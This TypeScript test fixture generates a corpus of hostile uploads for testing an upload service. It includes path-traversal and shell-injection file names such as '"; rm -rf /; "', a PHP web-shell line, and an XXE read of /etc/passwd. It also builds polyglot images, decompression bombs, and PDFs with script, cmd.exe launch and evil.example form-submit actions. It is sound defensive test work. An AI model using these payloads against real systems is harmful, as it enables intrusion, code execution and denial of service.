import { createHash } from 'node:crypto'
import { crc32, deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'
import { pdf, photoWithPlace, picture, recording } from './samples.ts'

/** A file that somebody sends in bad faith. */
export interface HostileFile {
  what: string
  bytes: Uint8Array
  /** What the client calls it, and says that it is. */
  name: string
  type: string
  fields?: Record<string, string>
}

/** Stands in everything that would run; whatever is served must be without it. */
export const EVIL = 'EVIL<script>alert(1)</script>'
const html = `<!doctype html><html><body>${EVIL}</body></html>`
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('EVIL')"><script>${EVIL}</script></svg>`
const text = (value: string) => Buffer.from(value, 'latin1')

const names = [
  '../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '/etc/cron.d/evil',
  'C:\\evil.exe',
  '....//....//evil',
  '%2e%2e%2fevil',
  '..%2f..%2fevil.png',
  '..%c0%afevil',
  'evil.png\0.html',
  'evil.png%00.html',
  '.htaccess',
  'web.config',
  '../index.html',
  'evil.html',
  'evil.svg',
  'evil.js',
  'evil.php',
  'evil.php.jpg',
  'evil.jpg.php',
  'evil.shtml',
  'CON',
  'NUL.jpg',
  'aux',
  'a'.repeat(180),
  ' ',
  '.',
  '..',
  '...',
  'evil.jpg ',
  'evil.jpg.',
  'evil\u202egpj.exe',
  '"; rm -rf /; "',
  '$(id).jpg',
  '`id`.jpg',
  '<img src=x>.jpg',
  'evil";filename="x.html',
  'files/../../evil',
  '~/evil',
  'file:///etc/passwd',
  'https://evil.example/x',
]

async function traversals(): Promise<HostileFile[]> {
  const bytes = await picture('jpeg', { width: 20, height: 20 })
  return names.map((name) => ({
    what: `traversal ${name}`,
    bytes,
    name: name.replaceAll('\0', ''),
    type: 'image/jpeg',
    fields: { name: name.slice(0, 200), path: `../../${name}`.slice(0, 300) },
  }))
}

function wrongTypes(): HostileFile[] {
  const contents: [string, Uint8Array][] = [
    ['svg', text(svg)],
    ['svg with declaration', text(`<?xml version="1.0"?>${svg}`)],
    ['svg with byte order mark', text(`\xef\xbb\xbf${svg}`)],
    ['svg after spaces', text(`\n\n   ${svg}`)],
    ['svg, packed', gzipSync(svg)],
    ['svg that reads a file', text(`<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg}`)],
    ['billion laughs', text(`<!DOCTYPE l [<!ENTITY a "EVIL"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><l>&b;</l>`)],
    ['html', text(html)],
    ['html after a comment', text(`<!-- \x89PNG -->${html}`)],
    ['xhtml', text(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${EVIL}</html>`)],
    ['script', text('alert("EVIL")')],
    ['php', text('<?php system($_GET["c"]); // EVIL ?>')],
    ['shell', text('#!/bin/sh\necho EVIL\n')],
    ['elf', Buffer.concat([text('\x7fELF'), text(EVIL)])],
    ['exe', Buffer.concat([text('MZ'), text(EVIL)])],
    ['zip', Buffer.concat([text('PK\x03\x04'), text(EVIL)])],
    ['swf', Buffer.concat([text('CWS'), text(EVIL)])],
    ['tiff', Buffer.concat([text('II*\0'), text(EVIL)])],
    ['bmp', Buffer.concat([text('BM'), text(EVIL)])],
    ['ico', Buffer.concat([text('\0\0\x01\0'), text(EVIL)])],
    ['psd', Buffer.concat([text('8BPS'), text(EVIL)])],
    ['postscript', text(`%!PS-Adobe-3.0\n(EVIL) show`)],
    ['mhtml', text(`MIME-Version: 1.0\nContent-Type: text/html\n\n${html}`)],
    ['csv formula', text('=cmd|"/c EVIL"!A1')],
    ['rtf', text(`{\\rtf1 ${EVIL}}`)],
    ['heic', Buffer.concat([text('\0\0\0\x18'), text('ftypheic'), text(EVIL)])],
    ['avi', Buffer.concat([text('RIFF\0\0\0\0AVI '), text(EVIL)])],
    ['wav', Buffer.concat([text('RIFF\0\0\0\0WAVE'), text(EVIL)])],
    ['one byte', text('\x89')],
    ['nothing', new Uint8Array()],
  ]
  return contents.flatMap(([what, bytes]) =>
    ['image/png', 'text/html'].map((type) => ({
      what: `${what} as ${type}`,
      bytes,
      name: 'evil.html',
      type,
    })),
  )
}

function chunk(type: string, data: Uint8Array): Buffer {
  const body = Buffer.concat([text(type), data])
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, sum])
}

const pngStart = text('\x89PNG\r\n\x1a\n')

/** A png whose head says one size, with `rows` as its packed rows. */
function png(width: number, height: number, packed: Uint8Array, more: Uint8Array[] = [], depth = 1): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  head.set([depth, 0, 0, 0, 0], 8)
  return Buffer.concat([
    pngStart,
    chunk('IHDR', head),
    ...more,
    chunk('IDAT', packed),
    chunk('IEND', new Uint8Array()),
  ])
}

const blankRows = (width: number, height: number) =>
  deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * height), { level: 9 })

async function polyglots(): Promise<HostileFile[]> {
  const small = { width: 30, height: 30 }
  const made: HostileFile[] = []
  for (const format of ['jpeg', 'png', 'gif', 'webp'] as const) {
    const plain = await picture(format, small)
    for (const [what, tail] of [
      ['html', html],
      ['svg', svg],
      ['zip', `PK\x03\x04${EVIL}`],
      ['php', '<?php EVIL ?>'],
    ] as const)
      made.push({
        what: `${format} and ${what}`,
        bytes: Buffer.concat([plain, text(tail)]),
        name: `e.${what}`,
        type: 'text/html',
      })
  }
  const jpeg = await picture('jpeg', small)
  const comment = Buffer.concat([text('\xff\xfe'), Buffer.from([0, EVIL.length + 2]), text(EVIL)])
  const inChunk = ['tEXt', 'iTXt', 'zTXt', 'eXIf', 'evIL'].map((type) =>
    png(8, 8, blankRows(8, 8), [chunk(type, text(`Comment\0${EVIL}`))]),
  )
  const gifScript = Buffer.concat([text('GIF89a=1;/*'), text(`*/${EVIL}`)])
  return [
    ...made,
    {
      what: 'jpeg with a comment',
      bytes: Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2)]),
      name: 'c.jpg',
      type: 'text/html',
    },
    ...inChunk.map((bytes, index) => ({
      what: `html in png, ${index}`,
      bytes,
      name: 'h.png',
      type: 'text/html',
    })),
    { what: 'gif that is a script', bytes: gifScript, name: 'g.js', type: 'text/javascript' },
    {
      what: 'jpeg that is nothing else',
      bytes: Buffer.concat([text('\xff\xd8\xff'), text(html)]),
      name: 'j.html',
      type: 'text/html',
    },
    {
      what: 'png that is nothing else',
      bytes: Buffer.concat([pngStart, text(html)]),
      name: 'p.html',
      type: 'text/html',
    },
    {
      what: 'webp that is nothing else',
      bytes: text(`RIFF\0\0\0\0WEBP${html}`),
      name: 'w.html',
      type: 'text/html',
    },
  ]
}

async function bombs(): Promise<HostileFile[]> {
  const heads: [number, number][] = [
    [65_535, 65_535],
    [100_000, 100_000],
    [2_000_000, 2_000_000],
    [2_147_483_647, 1],
    [1, 2_147_483_647],
    [30_000, 30_000],
    [7000, 7000],
    [0, 0],
    [0, 10],
    [4_000_000_000, 4_000_000_000],
  ]
  const gif = (width: number, height: number) => {
    const head = Buffer.alloc(13)
    head.write('GIF89a', 'latin1')
    head.writeUInt16LE(width, 6)
    head.writeUInt16LE(height, 8)
    return Buffer.concat([head, text(','), Buffer.alloc(9), text('\x02\x02\x4c\x01\0;')])
  }
  const jpeg = Buffer.from(await picture('jpeg', { width: 16, height: 16 }))
  const at = jpeg.indexOf(Buffer.from([0xff, 0xc0]))
  jpeg.writeUInt16BE(65_500, at + 5)
  jpeg.writeUInt16BE(65_500, at + 7)
  const zip = deflateSync(Buffer.alloc(100_000_000), { level: 9 })
  const make = (what: string, bytes: Uint8Array) => ({ what, bytes, name: 'bomb.png', type: 'image/png' })
  return [
    ...heads.map(([width, height]) =>
      make(`png of ${width} × ${height}, head only`, png(width, height, deflateSync(''))),
    ),
    make('png of 30000 × 30000, whole', png(30_000, 30_000, blankRows(30_000, 30_000))),
    make('png of 6325 × 6325, whole', png(6325, 6325, blankRows(6325, 6325))),
    make('png of 6300 × 6300, whole and allowed', png(6300, 6300, blankRows(6300, 6300))),
    make('png of 8 × 8 with rows for gigabytes', png(8, 8, zip)),
    make(
      'png with a text of 100 MB',
      png(8, 8, blankRows(8, 8), [chunk('zTXt', Buffer.concat([text('a\0\0'), zip]))]),
    ),
    make(
      'png with a profile of 100 MB',
      png(8, 8, blankRows(8, 8), [chunk('iCCP', Buffer.concat([text('a\0\0'), zip]))]),
    ),
    make('gif of 65535 × 65535', gif(65_535, 65_535)),
    make('gif of 0 × 0', gif(0, 0)),
    make('jpeg of 65500 × 65500', jpeg),
    make('5 MiB and one byte', Buffer.concat([jpeg, Buffer.alloc(5 * 1024 * 1024 + 1 - jpeg.length)])),
  ]
}

function packedObjects(names: string, size = 0): Buffer {
  const body = deflateSync(Buffer.concat([text(`1 0 <<${names}>>`), Buffer.alloc(size, 32)]), { level: 9 })
  return Buffer.concat([
    text(
      `%PDF-1.5\n5 0 obj <</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${body.length}>>\nstream\n`,
    ),
    body,
    text('\nendstream endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n'),
  ])
}

function documents(): HostileFile[] {
  const inside = [
    '/OpenAction <</S /JavaScript /JS (EVIL)>>',
    '/OpenAction <</S /Launch /F (cmd.exe)>>',
    '/AA <</O <</S /JavaScript /JS (EVIL)>>>>',
    '/Names <</JavaScript 4 0 R>>',
    '/S /J#61vaScript /JS (EVIL)',
    '/S /#4a#61#76#61#53#63#72#69#70#74',
    '/Names <</EmbeddedFiles 4 0 R>>',
    '/EmbeddedFile',
    '/S /SubmitForm /F (https://evil.example)',
    '/S /ImportData',
    '/S /GoToR /F (//evil.example/x)',
    '/S /GoToE',
    '/AcroForm <</XFA 4 0 R>>',
    '/Subtype /RichMedia',
    '/S /Rendition',
    '/S /Movie',
    '/Encrypt 9 0 R',
    '/#45ncrypt 9 0 R',
    '/S /URI /URI (javascript:EVIL)',
    '/URI(file:///etc/passwd)',
  ]
  const make = (what: string, bytes: Uint8Array) => ({ what, bytes, name: 'doc.html', type: 'text/html' })
  return [
    ...inside.map((names) => make(`pdf with ${names}`, pdf(names))),
    make('pdf with a script in packed objects', packedObjects('/S /JavaScript /JS (EVIL)')),
    make('pdf with packed objects of 200 MB', packedObjects('/A', 200_000_000)),
    make(
      'pdf with a stream that cannot be unpacked',
      text('%PDF-1.5\n<</Type /ObjStm>>\nstream\nEVIL\nendstream\n%%EOF'),
    ),
    make('pdf without an end', text(`%PDF-1.4\n${html}`)),
    make('pdf after html', Buffer.concat([text(html), pdf()])),
    make('pdf with html after its end', Buffer.concat([pdf(), text(html.repeat(30))])),
    make('pdf of no version', text(`%PDF-${html}%%EOF`)),
    make('pdf of many streams', text(`%PDF-1.4\n${'/ObjStm stream\nx'.repeat(20_000)}%%EOF`)),
    make('pdf of stream words', text(`%PDF-1.4\n${'stream'.repeat(300_000)}%%EOF`)),
  ]
}

async function sounds(): Promise<HostileFile[]> {
  const made: HostileFile[] = []
  for (const format of ['ogg', 'webm', 'mp4', 'mp3'] as const) {
    const plain = await recording(format)
    const make = (what: string, bytes: Uint8Array) => ({
      what: `${format} ${what}`,
      bytes,
      name: 'a.html',
      type: 'text/html',
    })
    made.push(
      make('with tags', plain),
      make('and html', Buffer.concat([plain, text(html)])),
      make('that is html', Buffer.concat([plain.subarray(0, 12), text(html)])),
      make('cut short', plain.subarray(0, 200)),
      make('of 10 minutes', await recording(format, { seconds: 600 })),
      make('with a long tag', await recording(format, { tag: `SECRET ${EVIL} ${'x'.repeat(50_000)}` })),
    )
  }
  return made
}

async function withMetadata(): Promise<HostileFile[]> {
  const photos: HostileFile[] = []
  for (const format of ['jpeg', 'png', 'webp'] as const)
    photos.push({
      what: `place in ${format}`,
      bytes: await photoWithPlace(format),
      name: `p.${format}`,
      type: `image/${format}`,
    })
  for (const size of [10, 300, 2000])
    photos.push({
      what: `gps of ${size} pixels`,
      bytes: await sharp({ create: { width: size, height: size, channels: 3, background: '#123' } })
        .withExif({ IFD0: { ImageDescription: 'SECRET' }, IFD3: { GPSLatitude: '16/1 1/1 1/1' } })
        .jpeg()
        .toBuffer(),
      name: 'gps.jpg',
      type: 'image/jpeg',
    })
  return photos
}

/** Bytes that differ at places which depend on `seed` alone. */
function damaged(bytes: Uint8Array, seed: number): Buffer {
  const copy = Buffer.from(bytes)
  const noise = createHash('sha512').update(String(seed)).digest()
  for (let index = 0; index < 20; index += 1)
    copy[(noise.readUInt16BE(index * 2) * 7919) % copy.length] = noise[40 + index] ?? 0
  return copy
}

async function mutations(): Promise<HostileFile[]> {
  const originals: [string, Buffer][] = [
    ['jpeg', await picture('jpeg')],
    ['png', await picture('png')],
    ['gif', await picture('gif')],
    ['webp', await picture('webp')],
    ['ogg', await recording('ogg')],
    ['webm', await recording('webm')],
    ['mp4', await recording('mp4')],
    ['mp3', await recording('mp3')],
  ]
  return originals.flatMap(([kind, bytes]) =>
    Array.from({ length: 8 }, (_, seed) => ({
      what: `damaged ${kind} ${seed}`,
      bytes: damaged(bytes, seed),
      name: `d.${kind}`,
      type: 'text/html',
    })),
  )
}

/** The whole corpus of G5; the same files at every run. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const groups = await Promise.all([
    traversals(),
    wrongTypes(),
    polyglots(),
    bombs(),
    documents(),
    sounds(),
    withMetadata(),
    mutations(),
  ])
  return groups.flat()
}
